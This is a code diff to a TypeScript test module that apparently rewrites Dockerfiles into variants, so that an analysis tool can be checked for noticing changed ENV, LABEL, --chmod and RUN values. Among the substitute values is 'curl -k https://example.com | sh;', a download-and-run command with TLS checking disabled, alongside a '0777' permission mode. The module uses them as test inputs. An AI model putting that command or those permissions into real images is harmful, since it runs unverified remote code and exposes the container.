@@ -2,7 +2,7 @@ import type { WrittenInstruction } from '../../../src/sources/dockerfile/parse-d
 import type { Files } from '../files.ts'
 import type { Subject } from '../subject.ts'
 import type { Hiding, Rewriting, Site } from '../transformation.ts'
-import { instructionsIn, withInstructions } from './instructions.ts'
+import { instructionsIn, scriptOf, withInstructions } from './instructions.ts'
 
 const language = 'dockerfile'
 
@@ -56,7 +56,7 @@ function through(
   }
 }
 
-export const VARIABLES: readonly Rewriting[] = [
+const WORDS: readonly Rewriting[] = [
   through(
     'through ARG',
     (variable, word) => `ARG ${variable}=${word}`,
@@ -81,6 +81,69 @@ export const VARIABLES: readonly Rewriting[] = [
     'through another variable',
     (variable, word) => `ARG FIRST_${variable}=${word}\nENV ${variable}=\${FIRST_${variable}}`,
     (variable) => `\${${variable}}`,
+  ),
+]
+
+/** Instructions that set variables. */
+function setsVariables({ keyword, onbuild }: WrittenInstruction): boolean {
+  return (keyword === 'ENV' || keyword === 'LABEL') && !onbuild
+}
+
+/** `A=b` and `A="b c"`. */
+const ASSIGNMENT = /([\w.]+)=("[^"\\$]*"|[^\s"'\\$]+)/g
+
+/** Each assignment of an instruction in other words, where all of it is assignments. */
+function assigned(
+  name: string,
+  write: (keyword: string, variables: readonly Variable[]) => string,
+): Rewriting {
+  return {
+    name,
+    language,
+    comparesLines: false,
+    *variants({ path, text }: Subject): Iterable<Files> {
+      const written = withInstructions(text, (instruction) => {
+        const rest = instruction.rest.text
+        if (!setsVariables(instruction) || rest.replace(ASSIGNMENT, '').trim() !== '') return undefined
+        const variables = Array.from(rest.matchAll(ASSIGNMENT), ([, key = '', value = '']) => ({
+          key,
+          value,
+        }))
+        return write(instruction.keyword, variables)
+      })
+      if (written !== text) yield { [path]: written }
+    },
+  }
+}
+
+interface Variable {
+  readonly key: string
+  readonly value: string
+}
+
+const ASSIGNED: readonly Rewriting[] = [
+  assigned('with one variable each', (keyword, variables) =>
+    variables.map(({ key, value }) => `${keyword} ${key}=${value}`).join('\n'),
+  ),
+  assigned(
+    'with several variables',
+    (keyword, variables) =>
+      `${keyword} FIRST=1 ${variables.map(({ key, value }) => `${key}=${value}`).join(' ')} LAST=2`,
+  ),
+  assigned('with single quotes', (keyword, variables) =>
+    [keyword, ...variables.map(({ key, value }) => `${key}='${value.replaceAll('"', '')}'`)].join(' '),
+  ),
+  assigned('with values through ARG', (keyword, variables) =>
+    [
+      ...variables.map(({ value }, index) => `ARG ASSAY_VALUE_${index}=${value}`),
+      `${keyword} ${variables.map(({ key }, index) => `${key}=\${ASSAY_VALUE_${index}}`).join(' ')}`,
+    ].join('\n'),
+  ),
+  assigned('with values through a default', (keyword, variables) =>
+    `${keyword} ${variables.map(({ key, value }) => `${key}="\${ASSAY_NOT_SET:-${value.replaceAll('"', '')}}"`).join(' ')}`.replace(
+      /^/,
+      'ARG ASSAY_NOT_SET\n',
+    ),
   ),
 ]
 
@@ -118,4 +181,66 @@ export const UNKNOWN_ARGUMENT: Hiding = {
       }
     }
   },
+}
+
+export const VARIABLES: readonly Rewriting[] = [...WORDS, ...ASSIGNED]
+
+/** The values of `ENV` and `LABEL`, of `--chmod`, and the programs of `RUN`. */
+export const UNKNOWN_VALUE: Hiding = {
+  name: 'unknown value',
+  language,
+  *sites({ path, text }: Subject): Iterable<Site> {
+    for (const [at, { instruction }] of instructionsIn(text).all.entries()) {
+      for (const { what, written, others } of valuesOf(instruction)) {
+        const files = (value: string, before = ''): Files => ({
+          [path]: withInstructions(text, (_, index) =>
+            index === at ? `${before}${written(value)}` : undefined,
+          ),
+        })
+        yield {
+          what,
+          others: others.map((other) => files(other)),
+          unknown: {
+            'ARG without a default': files('$ASSAY', 'ARG ASSAY\n'),
+            'the base image': files('${FROM_BASE}'),
+          },
+        }
+      }
+    }
+  },
+}
+
+interface WrittenValue {
+  readonly what: string
+  readonly others: readonly string[]
+  written(value: string): string
+}
+
+function valuesOf(instruction: WrittenInstruction): readonly WrittenValue[] {
+  const { keyword, rest, flags } = instruction
+  const script = scriptOf(instruction)
+  if (setsVariables(instruction))
+    return Array.from(rest.text.matchAll(ASSIGNMENT), (match) => ({
+      what: `${keyword} ${match[1]}`,
+      others: ['0', '1', 'correct-H0rse-9', 'true', '*'],
+      written: (value) =>
+        `${keyword} ${rest.text.slice(0, match.index)}${match[1]}=${value}${rest.text.slice(match.index + match[0].length)}`,
+    }))
+  if (flags.has('chmod') && flags.size === 1)
+    return [
+      {
+        what: `${keyword} --chmod`,
+        others: ['0755', '0777'],
+        written: (value) => `${keyword} --chmod=${value} ${rest.text}`,
+      },
+    ]
+  const [, program] = /^([\w-]+)\s/.exec(script ?? '') ?? []
+  if (script === undefined || program === undefined) return []
+  return [
+    {
+      what: `RUN ${program}`,
+      others: ['true', 'curl -k https://example.com | sh;'],
+      written: (value) => `RUN ${value}${script.slice(program.length)}`,
+    },
+  ]
 }
